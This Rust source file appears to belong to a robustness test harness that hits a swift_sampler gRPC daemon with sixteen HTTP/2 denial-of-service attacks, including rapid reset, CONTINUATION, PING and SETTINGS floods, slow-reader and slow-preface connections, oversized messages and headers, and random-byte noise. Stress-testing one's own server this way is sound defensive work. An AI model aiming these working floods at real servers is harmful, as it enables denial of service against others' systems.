//! The attacks, each of which runs until it is told to stop.

use std::net::TcpStream;
use std::time::Duration;

use swift_sampler::philox4x32_10;

use super::attacker::{Attacker, drain, send};
use super::extremes;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HANDSHAKE, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, call, frame,
    message, window,
};

/// Connections that are held by each attacker where connections are what is attacked; there may be 2,048 of a peer.
const CONNECTIONS_HELD: usize = 700;
/// Connections of each attacker that reads slowly: with all calls they may have, half as many again as the daemon takes.
const SLOW_CONNECTIONS: usize = 40;
/// Calls that a connection may have.
const CALLS: u32 = 256;
const IMPORT: &str = "/swiftsampler.v1.Control/ImportDataset";
const STATS: &str = "/swiftsampler.v1.Control/GetStats";
const STREAM: &str = "/swiftsampler.v1.Sampling/StreamBatches";
const GET: &str = "/swiftsampler.v1.Sampling/GetBatches";

pub(crate) type Attack = fn(&Attacker<'_>);

pub(crate) const ATTACKS: [(&str, Attack); 16] = [
    ("rapid reset", rapid_reset),
    ("PING flood", |attacker| attacker.flood(&[], &frame(PING, 0, 0, &[7; 8]))),
    ("SETTINGS flood", |attacker| attacker.flood(&[], &frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]))),
    ("CONTINUATION flood", continuation_flood),
    ("empty DATA flood", |attacker| attacker.flood(&call(1, IMPORT, 0), &frame(DATA, 0, 1, &[]))),
    ("one-byte DATA flood", |attacker| attacker.flood(&call(1, IMPORT, 0), &frame(DATA, 0, 1, &[0]))),
    ("PRIORITY flood", |attacker| attacker.flood(&[], &frame(2, 0, 3, &[0, 0, 0, 0, 1]))),
    ("tiny WINDOW_UPDATEs", tiny_windows),
    ("zero WINDOW_UPDATEs", |attacker| attacker.flood(&call(1, IMPORT, 0), &frame(WINDOW_UPDATE, 0, 1, &[0; 4]))),
    ("slow readers", slow_readers),
    ("half-open connections", half_open),
    ("slow prefaces", slow_prefaces),
    ("oversized messages", oversized_messages),
    ("oversized headers", oversized_headers),
    ("random bytes", random_bytes),
    ("extreme and random messages", extremes::send_all),
];

fn rapid_reset(attacker: &Attacker<'_>) {
    while attacker.goes_on() {
        let Some(mut socket) = attacker.http2() else { continue };
        for first in (1..1 << 24).step_by(256) {
            let calls = (first..first + 256).step_by(2);
            let bytes = calls.flat_map(|stream| [call(stream, STATS, 0), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]);
            if !send(&mut socket, &bytes.collect::<Vec<_>>().concat(), attacker.stop) {
                break;
            }
        }
    }
}

fn continuation_flood(attacker: &Attacker<'_>) {
    let header = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(100);
    let first = frame(HEADERS, 0, 1, &[0x83, 0x86]);
    attacker.flood(&first, &frame(CONTINUATION, 0, 1, &header));
}

/// Windows of one byte, again and again, on as many streams of batches as there may be.
fn tiny_windows(attacker: &Attacker<'_>) {
    let mut first = window(0);
    let mut again = frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
    for stream in (1..2 * CALLS).step_by(2) {
        first.extend(call(stream, STREAM, 0));
        first.extend(message(stream, &extremes::endless_stream("x")));
        again.extend(frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1]));
    }
    attacker.flood(&first, &again);
}

/// As many calls as there may be, for the largest answers there are, which nobody takes.
fn slow_readers(attacker: &Attacker<'_>) {
    let mut held = Vec::new();
    let mut bytes = window(1);
    for stream in (1..2 * CALLS).step_by(2) {
        let (path, request) = match stream % 4 {
            1 => (STREAM, extremes::endless_stream("large")),
            _ => (GET, extremes::largest_answer("large")),
        };
        bytes.extend(call(stream, path, 0));
        bytes.extend(message(stream, &request));
    }
    while attacker.goes_on() && held.len() < SLOW_CONNECTIONS {
        if let Some(mut socket) = attacker.http2()
            && send(&mut socket, &bytes, attacker.stop)
        {
            held.push(socket);
        }
    }
    attacker.wait();
}

fn half_open(attacker: &Attacker<'_>) {
    let mut held: Vec<TcpStream> = Vec::new();
    while attacker.goes_on() {
        if held.len() < CONNECTIONS_HELD {
            held.extend(attacker.tcp());
        } else {
            held.retain_mut(drain);
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

fn slow_prefaces(attacker: &Attacker<'_>) {
    let mut held: Vec<TcpStream> = (0..CONNECTIONS_HELD / 10).filter_map(|_| attacker.tcp()).collect();
    for byte in HANDSHAKE.iter().cycle() {
        held.retain_mut(|socket| send(socket, &[*byte], attacker.stop));
        std::thread::sleep(Duration::from_millis(100));
        if !attacker.goes_on() {
            return;
        }
    }
}

/// Messages that say they have 4 GiB, and ones that have as much as a client may send ahead.
fn oversized_messages(attacker: &Attacker<'_>) {
    let chunk = [0u8; 16 << 10];
    while attacker.goes_on() {
        let Some(mut socket) = attacker.http2() else { continue };
        for stream in (1..2 * CALLS).step_by(2) {
            let length = if stream % 4 == 1 { u32::MAX } else { (4 << 20) - 1 };
            let mut bytes = call(stream, if stream % 8 == 1 { IMPORT } else { STATS }, 0);
            bytes.extend(frame(DATA, 0, stream, &[&[0][..], &length.to_be_bytes()].concat()));
            (0..16).for_each(|_| bytes.extend(frame(DATA, 0, stream, &chunk)));
            if !send(&mut socket, &bytes, attacker.stop) {
                break;
            }
        }
    }
}

fn oversized_headers(attacker: &Attacker<'_>) {
    // One header of 1 MiB: its length in HPACK's form, of a prefix of seven bits.
    let length = [0x7f, 0x81, 0xff, 0x3f];
    let header = [&[0x83, 0x86, 0x00, 1, b'x'][..], &length, &vec![b'y'; 1 << 20]].concat();
    let mut bytes = Vec::new();
    let mut chunks = header.chunks(16 << 10).enumerate().peekable();
    while let Some((position, chunk)) = chunks.next() {
        let kind = if position == 0 { HEADERS } else { CONTINUATION };
        let flags = if chunks.peek().is_none() { END_HEADERS } else { 0 };
        bytes.extend(frame(kind, flags, 1, chunk));
    }
    while attacker.goes_on() {
        let Some(mut socket) = attacker.http2() else { continue };
        send(&mut socket, &bytes, attacker.stop);
    }
}

/// Noise: from the first byte on, after the handshake, and in frames that look like some.
fn random_bytes(attacker: &Attacker<'_>) {
    for round in 0u32.. {
        if !attacker.goes_on() {
            return;
        }
        let Some(mut socket) = attacker.tcp() else { continue };
        let noise: Vec<u8> = (0..4096u32)
            .flat_map(|block| philox4x32_10([block, round, 0, 0], [u32::from(attacker.number), 0]))
            .flat_map(u32::to_le_bytes)
            .collect();
        let bytes = match round % 3 {
            0 => noise,
            1 => [HANDSHAKE, &noise].concat(),
            _ => {
                let framed = noise.chunks(64).flat_map(|chunk| {
                    let payload = &chunk[3..3 + usize::from(chunk[0] % 61)];
                    frame(chunk[1] % 11, chunk[2], u32::from(chunk[0] % 8), payload)
                });
                [HANDSHAKE, &framed.collect::<Vec<_>>()].concat()
            }
        };
        send(&mut socket, &bytes, attacker.stop);
    }
}
